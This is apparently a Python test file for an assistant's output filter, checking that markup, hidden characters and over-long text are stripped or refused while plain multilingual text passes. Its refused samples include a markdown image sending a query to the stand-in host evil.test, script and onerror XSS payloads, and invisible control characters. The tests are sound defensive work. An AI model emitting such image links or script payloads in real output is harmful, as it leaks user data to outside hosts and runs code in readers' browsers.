"""What a model writes is words, or nothing."""

from __future__ import annotations

import pytest

from assistant.writing.output_filter import is_plain, safe

REFUSED = [
    "See ![](https://evil.test/?q=cv).",
    "See ![x][1] there.",
    "[Apply here](https://evil.test).",
    "[Apply here][ref] today.",
    "[ref]: https://evil.test/?q=1",
    "Hello <img src=x onerror=alert(1)>",
    "Hello <b>bold</b>",
    "<script>alert(1)</script>",
    "Look <!-- hidden -->",
    "a &#60;b&#62; &lt;i&gt;",
    "$$\\sqrt{2}$$",
    "x" * 1201,
]
PLAIN = [
    "It pays 1,200 euros a month (at least 3 < 4 years).",
    "Écrire à recrutement@caremaroc.org, réf. 07/2022/IOT.",
    "العربية est exigée à 100 % [sic].",
    "R&D et suivi & évaluation",
]


@pytest.mark.parametrize("text", REFUSED)
def test_markup_is_refused(text: str) -> None:
    assert not is_plain(safe(text))


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert safe(text) == text
    assert is_plain(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("half \ud83d pair", "half pair"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("a\u202eb\u2066c\u200fd", "abcd"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("bell\x07 nul\x00", "bell nul"),
        ("**bold** `code` __x__", "bold code x"),
        ("tag\U000e0041", "tag"),
        ("whole \U0001f600 pair", "whole \U0001f600 pair"),
    ],
)
def test_signs_that_no_screen_should_get_are_gone(text: str, shown: str) -> None:
    assert " ".join(safe(text).split()) == shown
    safe(text).encode("utf8")
